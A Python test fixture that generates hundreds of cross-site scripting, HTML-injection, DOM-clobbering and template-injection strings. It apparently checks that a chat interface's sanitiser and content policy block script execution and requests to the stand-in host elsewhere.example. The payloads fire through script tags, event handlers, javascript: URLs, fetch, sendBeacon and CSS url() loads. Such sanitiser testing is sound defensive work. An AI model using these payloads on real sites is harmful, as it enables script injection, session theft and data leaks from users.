"""Texts that try to run a script or to call another host, made by crossing what carries with what is carried.

``HIT`` in a pattern becomes a call that tells its number; ``AWAY`` an address of another host.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain, cycle, product

ELSEWHERE = "https://elsewhere.example"
# A policy does not reach where a page is led to. And for a frame that it refuses, Chromium has opened a connection.
NO_POLICY_STOPS = (
    "http-equiv=refresh",
    "http-equiv='refresh'",
    '<iframe src="AWAY',
    '<iframe src="//',
    '<iframe src="\\',
)


@dataclass(frozen=True)
class Payload:
    """One text. ``only_sanitised``: no Content-Security-Policy stops it, so that it must not become HTML at all."""

    number: int
    text: str
    only_sanitised: bool


SPELLINGS = ("script", "SCRIPT", "ScRiPt", "script ", "script/", "script\n", "script\t", "script\f", "script/x=1 ")
BEFORE_SCRIPT = (
    "", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>",
    "<svg>", "<math>", "<svg><desc>", "<table><tr><td>", "<select><option>", "<noscript>", "<!--><", "<![CDATA[", "\0",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "image src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
    "marquee", "iframe src=x", "object data=x", "embed src=x", "a href=# ", "div contenteditable", "form", "select",
    "textarea autofocus", "button", "table", "style", "link rel=stylesheet href=x", "p", "svg><animate begin=0s",
    "svg><image href=x", "math><mi", "video><source src=x", "x-own", "dialog open", "meter", "keygen autofocus",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onbegin", "onanimationstart",
    "onpointerenter", "onwheel", "onscroll", "onkeydown", "onsubmit", "onstart", "oncopy", "ONERROR", "oNlOaD",
    "onbeforetoggle", "onauxclick",
)  # fmt: skip
ASSIGNMENTS = (" {}=HIT", '/{}="HIT"', "\n{}='HIT'", "\t{}\n=\nHIT", "\f{}=HIT//", ' {}="&#72;IT"', " a='b'{}=HIT")
SCHEMES = (
    "javascript:HIT", "JaVaScRiPt:HIT", "java\tscript:HIT", "java\nscript:HIT", "java\rscript:HIT", " javascript:HIT",
    "\x01javascript:HIT", "&#106;avascript:HIT", "&#x6A;avascript:HIT", "&#0000106avascript:HIT",
    "java&Tab;script:HIT", "java&NewLine;script:HIT", "javascript&colon;HIT", "javascript&#58;HIT",
    "javascript://x%0aHIT", "javascript:/*x*/HIT", "data:text/html,<script>HIT</script>",
    "data:text/html;charset=utf-8,%3Cscript%3EHIT%3C/script%3E", "data:image/svg+xml,<svg onload=HIT>",
    "vbscript:HIT", "livescript:HIT", "blob:HIT", "filesystem:HIT", "view-source:javascript:HIT", "jar:HIT",
    "feed:javascript:HIT", "mhtml:javascript:HIT", "//elsewhere.example/AWAY", "\\\\elsewhere.example\\AWAY",
    "javascript\u200b:HIT", "\u3000javascript:HIT", "\ufeffjavascript:HIT",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}' target=_blank>x</a>", '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}" form=composer>x</button>',
    '<object data="{}"></object>', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<embed src="{}">',
    "[x]({})", "[x](<{}>)", "<{}>", "[x]\n\n[x]: {}\n", "![x]({})", '[x](/ok "{}")', '<area href="{}">',
    '<math href="{}">x</math>', '<base href="{}">',
)  # fmt: skip
OUTER = (
    "svg", "math", "math><mtext", "svg><foreignObject", "svg><desc", "svg><title", "math><mglyph",
    "math><annotation-xml encoding=text/html", "form><math><mtext></form><form", "table><math><mtext><table",
)  # fmt: skip
INNER = (
    "style", "title", "noscript", "xmp", "iframe", "noembed", "noframes", "textarea", "plaintext", "template",
    "select", "mglyph", "!--", "![CDATA[",
)  # fmt: skip
FETCHES = (
    '<img src="AWAY">', '<img srcset="AWAY 1x">', '<picture><source srcset="AWAY"><img></picture>',
    '<video poster="AWAY"></video>', '<video src="AWAY"></video>', '<audio src="AWAY" autoplay></audio>',
    '<track src="AWAY">', '<input type=image src="AWAY">', '<body background="AWAY">', '<table background="AWAY">',
    '<object data="AWAY"></object>', '<embed src="AWAY">', '<iframe src="AWAY"></iframe>',
    '<iframe srcdoc="&lt;img src=AWAY&gt;"></iframe>', '<frameset><frame src="AWAY"></frameset>',
    '<svg><image href="AWAY"/></svg>', '<svg><use href="AWAY#x"/></svg>', '<svg><filter><feImage href="AWAY"/></filter>',
    '<script src="AWAY"></script>', '<script type=module src="AWAY"></script>', "<script>import('AWAY')</script>",
    "<style>@import 'AWAY';</style>", "<style>body{background:url(AWAY)}</style>",
    "<style>@font-face{font-family:x;src:url(AWAY)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(AWAY)}</style>", '<p style="background:url(AWAY)">x</p>',
    '<p style="background-image:image-set(\'AWAY\' 1x)">x</p>', '<p style="list-style:url(AWAY);display:list-item">x',
    '<p style="content:url(AWAY)">x', '<p style="cursor:url(AWAY),auto">x', '<a href="/" ping="AWAY">x</a>',
    "<base href=\"AWAY/\"><img src=x>", '<meta http-equiv=refresh content="0;url=AWAY">',
    "<meta http-equiv='refresh' content='1;AWAY'>", '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    '<img src="AWAY" loading=lazy>', '<portal src="AWAY"></portal>', '<applet code=x codebase="AWAY"></applet>',
    '<xml src="AWAY"></xml>', '<html manifest="AWAY">', '<image src="AWAY">', '<bgsound src="AWAY">',
    "<script>fetch('AWAY')</script>", "<script>navigator.sendBeacon('AWAY')</script>",
    "<script>new WebSocket('wss://elsewhere.example')</script>", "<script>new Image().src='AWAY'</script>",
    "<script>location='AWAY'</script>", "<img src=x onerror=\"window.open('AWAY')\">",
    '<form action="AWAY" id=f><input name=q></form><script>f.submit()</script>', '<a href="AWAY" download>x</a>',
    "![x](AWAY)", '![x](AWAY "t")', "![x][r]\n\n[r]: AWAY\n", "[![x](AWAY)](/)", "![x](<AWAY>)", "![][AWAY]",
    '<details><summary>![x](AWAY)</summary></details>', "| a |\n|---|\n| ![x](AWAY) |", "> ![x](AWAY)",
    "1. ![x](AWAY)", "# ![x](AWAY)", "**![x](AWAY)**", "![x](http&#58;//elsewhere.example)", "![x](//elsewhere.example)",
)  # fmt: skip
RELATIONS = (
    "stylesheet", "prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "icon", "manifest", "prerender",
    "alternate", "apple-touch-icon", "import", "search", "next", "compression-dictionary",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:HIT 'HIT')", "[<img src=x onerror=HIT>](/)", '[x](/ "\\"onmouseover=HIT")', "`<script>HIT</script>`",
    "    <script>HIT</script>", "| <script>HIT</script> | b |\n|---|---|\n| <img src=x onerror=HIT> | c |",
    "# <svg onload=HIT>", "# x {onclick=HIT}", "[x](/){onclick=HIT}", "~~<img src=x onerror=HIT>~~",
    "- <script>HIT</script>\n- [x](javascript:HIT)", "> <iframe src=javascript:HIT>", "<!-- <img src=x onerror=HIT> -->",
    "<?php HIT ?>", "<!DOCTYPE x [<!ENTITY y 'HIT'>]>&y;", "*<a href=javascript:HIT>*x*</a>*", "\\<script>HIT\\</script>",
    "[x]\\(javascript:HIT)", "[a](b)(javascript:HIT)", "[a]: javascript:HIT\n\n[a]", "[a]: <javascript:HIT> 't'\n\n[a][]",
    "[^1]\n\n[^1]: <script>HIT</script>", "$<script>HIT</script>$", "$$\\href{javascript:HIT}{x}$$", "[x](javascript&#x3a;HIT)",
    "<div\nonclick=HIT\n>", "a<br onclick=HIT>b", "***\n<hr onclick=HIT>", "[1](javascript:HIT)", "[1]<img src=x onerror=HIT>",
    "www.elsewhere.example/AWAY", "AWAY", "<AWAY>", "mailto:x@y.example?body=<script>HIT</script>", "<x@y.example>",
    "[[x](javascript:HIT)](/)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ":::\n<script>HIT</script>\n:::",
)  # fmt: skip
# A block of code that is not closed takes in what stands behind it, so these come last.
FENCES = ("```html\n<script>HIT</script>\n```", '```"><script>HIT</script>\nx\n```', "~~~ onload=HIT\n<svg onload=HIT>\n~~~",
          '````<img src=x onerror=HIT>\n```\n<script>HIT</script>\n````', "```mermaid\nclick a call HIT\n<script>HIT</script>\n```",
          "``` {.html onclick=HIT}\nx\n```", "```html\n<script>HIT</script>")  # fmt: skip
TEMPLATES = (
    "{{HIT}}", "{{constructor.constructor('HIT')()}}", "{{7*7}}HIT", "{%print(HIT)%}", "${HIT}", "`${HIT}`", "#{HIT}",
    "<%=HIT%>", "<%- HIT %>", "[[HIT]]", "{{{HIT}}}", "{{config.items()}}HIT", "{{request.application}}HIT", "*{HIT}",
    "@(HIT)", "{{'x'|attr('__class__')}}HIT", "{%raw%}{{HIT}}{%endraw%}", "{{ HIT | safe }}", "<div v-html=HIT>",
    "<div ng-app ng-csp>{{$on.constructor('HIT')()}}</div>", "<div x-init=HIT>", "<div data-bind='html: HIT'>",
    "<div hx-on:load=HIT>", "<template is=x onload=HIT>", '"+HIT+"', "';HIT;//", "\\';HIT;//", "</script><script>HIT</script>",
)  # fmt: skip
SIGNS = (
    "\u202e", "\u2066", "\u200b", "\u200d", "\u00ad", "\ufeff", "\u2028", "\u2029", "\x00", "\x08", "\x0b", "\x1b[31m",
    "\x7f", "\x85", "\ufffe", "\U000e0001", "\u0300" * 40, "\u0d4d", "\U0001f3f4\U000e0067", "\u212a", "\u017f",
)  # fmt: skip
WRITTEN = (
    "＜script＞HIT＜/script＞", "<ſcript>HIT</ſcript>", "‹script›HIT‹/script›", "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "%3Cscript%3EHIT%3C/script%3E", "&lt;script&gt;HIT&lt;/script&gt;", "&#60;script&#62;HIT&#60;/script&#62;",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-", "\\x3cscript\\x3eHIT\\x3c/script\\x3e", "&amp;lt;script&amp;gt;HIT",
)  # fmt: skip
# Names by which scripts of ours and of the browser find things.
NAMES = (
    "composer", "transcript", "drawer", "main", "library", "options", "conversations", "horizon", "turn-template",
    "composer-error", "turn-1", "body", "head", "location", "cookie", "forms", "fetch", "trustedTypes", "history",
    "attributes", "children", "parentNode", "ownerDocument", "content", "dataset", "currentScript", "defaultView",
)  # fmt: skip
ATTRIBUTES = (
    'data-stream="AWAY"', 'data-page="AWAY"', "data-asks", 'data-stop="AWAY"', 'data-retry="AWAY"', "data-drawer",
    'data-turn="1"', 'data-url="AWAY"', 'data-copy-request="AWAY"', "aria-live=assertive", "aria-hidden=true", "role=alert",
    "hidden", "popover", "popovertarget=drawer", "accesskey=x", "autofocus", "tabindex=1", "slot=x", "is=x",
    "contenteditable", "draggable=true", "inert", "class=turn", "form=composer", "commandfor=drawer command=close",
)  # fmt: skip


def _scripts() -> Iterator[str]:
    bodies = cycle(["HIT", "\nHIT\n", "/**/HIT//", "<!--\nHIT//-->", "\tHIT;"])
    for name, before in product(SPELLINGS, BEFORE_SCRIPT):
        yield f"{before}<{name}>{next(bodies)}</script>"


def _handlers() -> Iterator[str]:
    ways = cycle(ASSIGNMENTS)
    for element, event in product(ELEMENTS, EVENTS):
        yield f"<{element}{next(ways).format(event)}>x"


def _addresses() -> Iterator[str]:
    for carrier, url in product(CARRIERS, SCHEMES):
        yield carrier.format(url)


def _mutations() -> Iterator[str]:
    for outer, inner in product(OUTER, INNER):
        ending = {"!--": "-->", "![CDATA[": "]]>"}.get(inner, f"</{inner}>")
        yield f'<{outer}><{inner}><a title="{ending}<img src=x onerror=HIT>">x'


def _fetches() -> Iterator[str]:
    yield from FETCHES
    for relation in RELATIONS:
        yield f'<link rel={relation} href="AWAY">'
        yield f'</title><LINK REL="{relation}" AS=script HREF=AWAY>'


def _unicode() -> Iterator[str]:
    yield from WRITTEN
    for sign in SIGNS:
        yield f"<{sign}script>HIT</script>"
        yield f"<img{sign} src=x one{sign}rror=HIT>"
        yield f"[x](java{sign}script:HIT)"


def _clobbering() -> Iterator[str]:
    for name in NAMES:
        yield f"<form id={name}><input name={name}></form>"
        yield f"<a id={name}></a><a id={name} name=url href=AWAY></a>"
    for attribute in ATTRIBUTES:
        yield f"<div {attribute}>x</div>"
        yield f"[x](/){{{attribute}}}"


def _nesting() -> Iterator[str]:
    inner = "<img src=x onerror=HIT>"
    for opening in ("<div>", "<b>", "<svg>", "<table>", "<form><math>", "<p><a>", "<font><a><b>"):
        yield opening * 150 + inner
    for sign in ("> ", "- ", "1. "):  # Deeper than ten lists, what follows is not drawn.
        yield sign * 8 + inner
    for sign in "*_[`(~":
        yield "x" + sign * 80 + inner


def _made() -> list[Payload]:
    sources = (_scripts(), _handlers(), _addresses(), _mutations(), _fetches(), MARKDOWN, TEMPLATES, _unicode(),
               _clobbering(), _nesting(), FENCES)  # fmt: skip
    patterns = dict.fromkeys(chain.from_iterable(sources))
    made = []
    for number, pattern in enumerate(patterns):
        text = pattern.replace("HIT", f"__hit({number})").replace("AWAY", f"{ELSEWHERE}/{number}")
        made.append(Payload(number, text, any(sign in pattern for sign in NO_POLICY_STOPS)))
    return made


PAYLOADS = _made()
# A sample is each so many of them: a prime number, so that it has something of every row and column of the tables.
EVERY = 41


def joined(payloads: list[Payload], place: str) -> str:
    """Return payloads as one text, each a block of its own, with a word behind each that shows that it was shown."""
    return "\n\n".join(f"{payload.text}\n\nend{payload.number}{place}" for payload in payloads)
